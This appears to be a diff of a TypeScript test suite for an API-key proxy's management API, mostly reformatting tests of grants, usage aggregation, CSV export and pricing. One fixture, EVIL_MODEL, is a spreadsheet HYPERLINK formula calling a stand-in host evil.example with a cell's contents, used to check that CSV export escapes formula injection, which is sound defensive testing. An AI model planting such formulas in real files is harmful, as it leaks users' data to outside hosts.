@@ -15,10 +15,21 @@ import { WebClient } from "@/test/support/web-client";
 const HI = [{ role: "user" as const, content: "hi" }];
 const EVIL_MODEL = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
 
-type Row = { provider: string; model: string | null; grantId: string; inputTokens: number; outputTokens: number; cacheReadTokens: number; costMicros: bigint };
+type Row = {
+  provider: string;
+  model: string | null;
+  grantId: string;
+  inputTokens: number;
+  outputTokens: number;
+  cacheReadTokens: number;
+  costMicros: bigint;
+};
 
 function sums(rows: Row[], key: (r: Row) => string) {
-  const out = new Map<string, { requests: number; input_tokens: number; output_tokens: number; cache_read_tokens: number; cost_micros: bigint }>();
+  const out = new Map<
+    string,
+    { requests: number; input_tokens: number; output_tokens: number; cache_read_tokens: number; cost_micros: bigint }
+  >();
   for (const r of rows) {
     const s = out.get(key(r)) ?? { requests: 0, input_tokens: 0, output_tokens: 0, cache_read_tokens: 0, cost_micros: 0n };
     s.requests++;
@@ -45,7 +56,10 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
   beforeAll(async () => {
     h = await startProxyHarness(kind);
     a = await h.grants.create([{ provider: "openai", capabilities: ["chat", "embeddings"], monthlyUsd: "10" }]);
-    b = await h.grants.create([{ provider: "openai", monthlyUsd: "10" }, { provider: "anthropic", monthlyUsd: "10", dailyUsd: "2" }]);
+    b = await h.grants.create([
+      { provider: "openai", monthlyUsd: "10" },
+      { provider: "anthropic", monthlyUsd: "10", dailyUsd: "2" },
+    ]);
     c = await h.grants.create([{ provider: "openai", monthlyUsd: null }]);
     other = new GrantFactory(h.databaseUrl, h.vault.env.VAULT_SECRET_KEY!);
     d = await other.create([{ provider: "openai", monthlyUsd: "10" }]);
@@ -72,7 +86,14 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
   });
 
   it("F1: refuses missing and invalid keys, and answers another account's objects as not found", async () => {
-    for (const path of ["/api/v1/grants", `/api/v1/grants/${a.grantId}`, "/api/v1/requests", "/api/v1/usage", "/api/v1/usage/aggregate?by=model", "/api/v1/prices"]) {
+    for (const path of [
+      "/api/v1/grants",
+      `/api/v1/grants/${a.grantId}`,
+      "/api/v1/requests",
+      "/api/v1/usage",
+      "/api/v1/usage/aggregate?by=model",
+      "/api/v1/prices",
+    ]) {
       for (const key of [null, "okmk_nope", `okmk_${"Z".repeat(36)}`]) {
         const r = await read.call("GET", path, { key });
         expect(r.status, `${path} ${key}`).toBe(401);
@@ -112,9 +133,25 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     const rows = await h.grants.usage(a.grantId);
     const spent = rows.reduce((s, r) => s + r.costMicros, 0n);
     expect(one).toMatchObject({
-      id: a.grantId, status: "active", client_name: "Proxy Test App", providers: ["openai"],
+      id: a.grantId,
+      status: "active",
+      client_name: "Proxy Test App",
+      providers: ["openai"],
       tokens: [{ id: a.tokenId, last4: a.token.slice(-4), revoked_at: null }],
-      scopes: [{ provider: "openai", limits: { monthly_spend: 10 }, spend: { month: { cap_micros: "10000000", committed_micros: String(spent), held_micros: "0", remaining_micros: String(10_000_000n - spent) } } }],
+      scopes: [
+        {
+          provider: "openai",
+          limits: { monthly_spend: 10 },
+          spend: {
+            month: {
+              cap_micros: "10000000",
+              committed_micros: String(spent),
+              held_micros: "0",
+              remaining_micros: String(10_000_000n - spent),
+            },
+          },
+        },
+      ],
       last_used_at: rows.at(-1)!.createdAt.toISOString(),
     });
     const text = list.text + JSON.stringify(one);
@@ -122,7 +159,12 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
 
     expect((await read.get("/api/v1/grants?provider=anthropic")).json().data.map((g: { id: string }) => g.id)).toEqual([b.grantId]);
     expect((await read.get("/api/v1/grants?status=revoked")).json().total).toBe(0);
-    for (const [query, message] of [["status=gone", /status must be one of/], ["provider=nope", /unknown provider/], ["limit=101", /at most 100/], ["x=1", /unknown field: x/]] as const) {
+    for (const [query, message] of [
+      ["status=gone", /status must be one of/],
+      ["provider=nope", /unknown provider/],
+      ["limit=101", /at most 100/],
+      ["x=1", /unknown field: x/],
+    ] as const) {
       const r = await read.get(`/api/v1/grants?${query}`);
       expect(r.status, query).toBe(400);
       expect(r.json().error.message).toMatch(message);
@@ -130,7 +172,10 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
   });
 
   it("F2: PATCH changes only limits, expiry and status; everything else is refused and changes nothing", async () => {
-    const before = JSON.stringify(await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }), (_k, v) => (typeof v === "bigint" ? String(v) : v));
+    const before = JSON.stringify(
+      await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }),
+      (_k, v) => (typeof v === "bigint" ? String(v) : v),
+    );
     const auditBefore = await h.grants.db.auditEvent.count();
     for (const [body, status, message] of [
       [{ committed: 0 }, 400, /unknown field: committed/],
@@ -153,12 +198,18 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     const multi = await write.call("PATCH", `/api/v1/grants/${b.grantId}`, { json: { limits: { monthly_spend: 1 } } });
     expect(multi.status).toBe(422);
     expect((await read.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "paused" } })).status).toBe(403);
-    const after = JSON.stringify(await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }), (_k, v) => (typeof v === "bigint" ? String(v) : v));
+    const after = JSON.stringify(
+      await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }),
+      (_k, v) => (typeof v === "bigint" ? String(v) : v),
+    );
     expect(after).toBe(before);
     expect(await h.grants.db.auditEvent.count()).toBe(auditBefore);
 
     const ok = await write.call("PATCH", `/api/v1/grants/${b.grantId}`, {
-      json: { expires_at: "2031-02-03T04:05:06Z", scopes: [{ id: b.scopeIds[1], limits: { monthly_spend: "25.5", daily_spend: null, requests_per_minute: 30 } }] },
+      json: {
+        expires_at: "2031-02-03T04:05:06Z",
+        scopes: [{ id: b.scopeIds[1], limits: { monthly_spend: "25.5", daily_spend: null, requests_per_minute: 30 } }],
+      },
     });
     expect(ok.status).toBe(200);
     const anthropic = ok.json().scopes.find((s: { provider: string }) => s.provider === "anthropic");
@@ -177,19 +228,36 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
   it("pauses and resumes a grant through the API: the proxy refuses it within a second, then serves it again", async () => {
     const paused = await write.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "paused" } });
     expect(paused.json().status).toBe("paused");
-    const refused = await waitFor(async () => {
-      try {
-        await h.openai(a.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI });
-        return null;
-      } catch (error) {
-        return error as { status: number; code: string };
-      }
-    }, 2_000, "the pause to reach the proxy");
+    const refused = await waitFor(
+      async () => {
+        try {
+          await h.openai(a.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI });
+          return null;
+        } catch (error) {
+          return error as { status: number; code: string };
+        }
+      },
+      2_000,
+      "the pause to reach the proxy",
+    );
     expect(refused).toMatchObject({ status: 403, code: "grant_paused" });
     expect((await write.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "active" } })).json().status).toBe("active");
-    await waitFor(async () => h.openai(a.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI }).then(() => true, () => false), 2_000, "the resume to reach the proxy");
+    await waitFor(
+      async () =>
+        h
+          .openai(a.token)
+          .chat.completions.create({ model: "gpt-4o-mini", messages: HI })
+          .then(
+            () => true,
+            () => false,
+          ),
+      2_000,
+      "the resume to reach the proxy",
+    );
     await settledUsage(h, a.grantId);
-    const actions = (await h.grants.db.auditEvent.findMany({ where: { targetId: a.grantId }, orderBy: { seq: "asc" } })).map((e) => e.action);
+    const actions = (await h.grants.db.auditEvent.findMany({ where: { targetId: a.grantId }, orderBy: { seq: "asc" } })).map(
+      (e) => e.action,
+    );
     expect(actions).toEqual(["grant.paused", "grant.resumed"]);
   });
 
@@ -213,7 +281,10 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     // a revoked grant is final
     const patch = await write.call("PATCH", `/api/v1/grants/${c.grantId}`, { json: { status: "active" } });
     expect(patch.status).toBe(409);
-    const refused = await h.openai(c.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI }).catch((e: { status: number; code: string }) => e);
+    const refused = await h
+      .openai(c.token)
+      .chat.completions.create({ model: "gpt-4o-mini", messages: HI })
+      .catch((e: { status: number; code: string }) => e);
     expect(refused).toMatchObject({ status: 401, code: "token_revoked" });
   });
 
@@ -236,12 +307,22 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     const asked = await fetch(`${h.vault.url}/okap/request`, {
       method: "POST",
       headers: { "content-type": "application/json", prefer: "respond-async" },
-      body: JSON.stringify({ okap: "1.0", provider: "openai", models: ["gpt-4o-mini"], app_name: "Cron Job", app_url: "https://cron.example.com" }),
+      body: JSON.stringify({
+        okap: "1.0",
+        provider: "openai",
+        models: ["gpt-4o-mini"],
+        app_name: "Cron Job",
+        app_url: "https://cron.example.com",
+      }),
     });
     expect(asked.status).toBe(202);
     const id = (await asked.json()).request_id as string;
     const list = (await read.get("/api/v1/requests?status=pending")).json();
-    expect(list).toMatchObject({ page: 1, total: 1, data: [{ id, status: "pending", client_name: "Cron Job", providers: [{ provider: "openai", models: ["gpt-4o-mini"] }] }] });
+    expect(list).toMatchObject({
+      page: 1,
+      total: 1,
+      data: [{ id, status: "pending", client_name: "Cron Job", providers: [{ provider: "openai", models: ["gpt-4o-mini"] }] }],
+    });
     expect(JSON.stringify(list)).not.toMatch(/okps_|poll_secret|pollSecret/);
     expect((await read.get(`/api/v1/requests/${id}`)).json()).toMatchObject({ id, status: "pending", dialect: "a" });
     const approve = await write.call("POST", `/api/v1/requests/${id}/approve`, { json: {} });
@@ -275,7 +356,13 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
       expect(agg.data.length, by).toBe(expected.size);
       for (const bucket of agg.data) {
         const e = expected.get(bucket.key ?? "")!;
-        expect(bucket, `${by} ${bucket.key}`).toMatchObject({ requests: e.requests, input_tokens: e.input_tokens, output_tokens: e.output_tokens, cache_read_tokens: e.cache_read_tokens, cost_micros: String(e.cost_micros) });
+        expect(bucket, `${by} ${bucket.key}`).toMatchObject({
+          requests: e.requests,
+          input_tokens: e.input_tokens,
+          output_tokens: e.output_tokens,
+          cache_read_tokens: e.cache_read_tokens,
+          cost_micros: String(e.cost_micros),
+        });
       }
       const total = rows.reduce((s, r) => s + r.costMicros, 0n);
       expect(agg.totals, by).toMatchObject({ requests: rows.length, cost_micros: String(total) });
@@ -291,7 +378,12 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     }
     const filtered = (await read.get(`/api/v1/usage/aggregate?by=model&grant_id=${a.grantId}`)).json();
     expect(filtered.totals.requests).toBe(rows.filter((r) => r.grantId === a.grantId).length);
-    for (const [query, message] of [["", /by must be one of/], ["by=hour", /by must be one of/], ["by=day&since=tomorrow", /ISO 8601/], ["by=day&page=1", /unknown field: page/]] as const) {
+    for (const [query, message] of [
+      ["", /by must be one of/],
+      ["by=hour", /by must be one of/],
+      ["by=day&since=tomorrow", /ISO 8601/],
+      ["by=day&page=1", /unknown field: page/],
+    ] as const) {
       const r = await read.get(`/api/v1/usage/aggregate?${query}`);
       expect(r.status, query).toBe(400);
       expect(r.json().error.message, query).toMatch(message);
@@ -303,7 +395,9 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     expect(csv.status).toBe(200);
     expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
     const lines = csv.text.trim().split("\r\n");
-    expect(lines[0]).toBe("created_at,id,app,grant_id,provider,model,endpoint,status,outcome,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,reasoning_tokens,cost_usd,cost_micros,estimated,latency_ms,ttfb_ms");
+    expect(lines[0]).toBe(
+      "created_at,id,app,grant_id,provider,model,endpoint,status,outcome,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,reasoning_tokens,cost_usd,cost_micros,estimated,latency_ms,ttfb_ms",
+    );
     expect(lines).toHaveLength(1 + (await h.grants.db.usageEvent.count({ where: { userId: a.userId } })));
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv.text).not.toMatch(/(^|,)=HYPERLINK/m);
@@ -328,7 +422,13 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     expect(member.json().error.message).toMatch(/Only the vault owner/);
     const set = await write.call("PUT", "/api/v1/prices", { json: body });
     expect(set.status).toBe(200);
-    expect(set.json()).toMatchObject({ provider: "openai", model: "ft:gpt-4o-mini:acme", input_usd_per_mtok: "0.3", output_usd_per_mtok: "1.2", cache_read_usd_per_mtok: null });
+    expect(set.json()).toMatchObject({
+      provider: "openai",
+      model: "ft:gpt-4o-mini:acme",
+      input_usd_per_mtok: "0.3",
+      output_usd_per_mtok: "1.2",
+      cache_read_usd_per_mtok: null,
+    });
     expect((await read.get("/api/v1/prices")).json()).toMatchObject({ total: 1, data: [{ model: "ft:gpt-4o-mini:acme" }] });
     expect((await write.call("PUT", "/api/v1/prices", { json: { ...body, provider: "nope" } })).status).toBe(400);
     expect((await write.call("PUT", "/api/v1/prices", { json: { ...body, input: "-1" } })).status).toBe(400);
@@ -367,6 +467,9 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     expect(patch.additionalProperties).toBe(false);
     const grant = doc.paths["/api/v1/grants/{id}"]!.get.responses["200"].content["application/json"].schema;
     expect(JSON.stringify(grant)).not.toMatch(/hash|ciphertext/i);
-    expect(doc.paths["/api/v1/usage/aggregate"]!.get.parameters.find((p: { name: string }) => p.name === "by")).toMatchObject({ required: true, schema: { enum: ["provider", "model", "grant", "day"] } });
+    expect(doc.paths["/api/v1/usage/aggregate"]!.get.parameters.find((p: { name: string }) => p.name === "by")).toMatchObject({
+      required: true,
+      schema: { enum: ["provider", "model", "grant", "day"] },
+    });
   });
 });
